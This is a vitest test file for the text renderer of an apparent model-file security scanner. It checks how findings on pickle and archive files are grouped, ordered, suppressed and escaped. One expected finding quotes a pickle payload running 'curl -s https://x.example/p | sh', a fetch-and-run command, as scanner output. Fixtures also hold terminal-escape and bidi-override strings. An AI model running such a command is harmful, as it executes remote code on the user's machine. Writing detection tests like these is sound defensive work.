import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/core/report.js';
import { render } from '../../src/report/index.js';
import { renderText } from '../../src/report/text.js';
import { cleanReport, hostileReport, SAMPLE_RULES, sampleReport } from './sample-report.js';

// biome-ignore lint/suspicious/noControlCharactersInRegex: ANSI escapes start with ESC.
const ANSI = /\u001b\[[0-9;]*m/g;

function lines(text: string): string[] {
  return text.replace(/\n$/, '').split('\n');
}

describe('text renderer', () => {
  it('groups findings by file, general first, files in path order', () => {
    const out = lines(renderText(sampleReport(), SAMPLE_RULES));
    const headers = out.filter(
      (line) => line !== '' && !line.startsWith(' ') && !line.startsWith('assay') && !line.startsWith('gate:'),
    );
    expect(headers).toEqual([
      'general',
      'legacy/optimizer state #2.pkl  (pickle)',
      'model.safetensors  (safetensors)',
      'pytorch_model.bin  (pytorch-zip)',
      'weights.tar.gz  (gzip)',
    ]);
  });

  it('prints each finding as one line, then its location and what to do', () => {
    const out = lines(renderText(sampleReport(), SAMPLE_RULES));
    const at = out.findIndex((line) => line.includes('security/pickle-dangerous-global'));
    expect(out[at]).toBe(
      "  CRITICAL  security/pickle-dangerous-global  Loading imports posix.system and calls it with ('curl -s https://x.example/p | sh',): runs a shell command. (in archive/data.pkl)",
    );
    expect(out[at + 1]).toBe('            in archive/data.pkl at offset 439 (0x1b7)');
    expect(out[at + 2]).toMatch(/^ {12}fix: Do not load this file\./);

    const general = out.findIndex((line) => line.includes('compliance/licence-missing'));
    expect(out[general]).toMatch(/^ {2}MEDIUM {4}compliance\/licence-missing {2}Neither LICENSE/);
    expect(out[general + 1]).toMatch(/^ {12}fix: Ask the publisher/); // no location line when there is none
  });

  it('orders findings within a file by severity, then rule id, then offset', () => {
    const out = lines(renderText(sampleReport(), SAMPLE_RULES));
    const start = out.indexOf('pytorch_model.bin  (pytorch-zip)');
    const findingLines = out.slice(start + 1).filter((line) => /^ {2}[A-Z]/.test(line));
    expect(findingLines[0]).toMatch(/^ {2}CRITICAL {2}security\/pickle-dangerous-global/);
    expect(findingLines[1]).toMatch(/^ {2}MEDIUM {4}security\/pickle-unknown-global/);
  });

  it('shows a suppressed finding with the reason instead of a fix', () => {
    const out = lines(renderText(sampleReport(), SAMPLE_RULES));
    const at = out.findIndex((line) => line.includes('our_lab.optim.Lion'));
    expect(out[at + 1]).toBe('            at offset 57 (0x39)');
    expect(out[at + 2]).toBe('            suppressed: Our own optimizer class, reviewed in SEC-142');
  });

  it('ends with the gate reasons and exactly one summary line', () => {
    const out = lines(renderText(sampleReport(), SAMPLE_RULES));
    expect(out.at(-1)).toBe(
      'assay: 5 files, 6 findings (1 critical, 2 high, 2 medium, 1 info), 1 suppressed, 1 not analysed, verdict FAIL (fail-on high)',
    );
    expect(out.slice(-3, -1)).toEqual(['gate: 2 finding(s) at or above high', 'gate: 1 item(s) could not be analysed']);
    expect(out.filter((line) => line.startsWith('assay:'))).toHaveLength(1);
  });

  it('says so when there is nothing to report, and leaves out zero counts', () => {
    const out = lines(renderText(cleanReport(), SAMPLE_RULES));
    expect(out).toContain('No findings.');
    expect(out.at(-1)).toBe('assay: 1 file, 0 findings, verdict PASS (fail-on high)');
  });

  it('uses no colour unless asked, and the same text when it does', () => {
    const plain = renderText(sampleReport(), SAMPLE_RULES);
    expect(plain).not.toContain('\u001b');
    expect(render('text', sampleReport(), SAMPLE_RULES)).toBe(plain);
    expect(render('text', sampleReport(), SAMPLE_RULES, {})).toBe(plain);

    const coloured = renderText(sampleReport(), SAMPLE_RULES, { color: true });
    expect(coloured).toMatch(ANSI);
    expect(coloured).toContain('\u001b[1;97;41mCRITICAL');
    expect(coloured.replace(ANSI, '')).toBe(plain);
  });

  it('neutralises terminal escapes, bidi overrides and newlines from the audited files', () => {
    const out = renderText(hostileReport(), SAMPLE_RULES);
    expect(out).not.toContain('\u001b');
    expect(out).not.toContain('\u202e');
    expect(out).toContain('Terminal escape \\x1b[31mred\\x1b[0m and bidi \\u202egnp.exe and a\\x0anewline');
    const coloured = renderText(hostileReport(), SAMPLE_RULES, { color: true });
    expect(coloured.replace(ANSI, '')).not.toContain('\u001b');
  });

  it('is the same text whatever the order of findings in the report', () => {
    const report = sampleReport();
    const reversed: Report = { ...report, findings: [...report.findings].reverse() };
    expect(renderText(reversed, SAMPLE_RULES)).toBe(renderText(report, SAMPLE_RULES));
  });
});
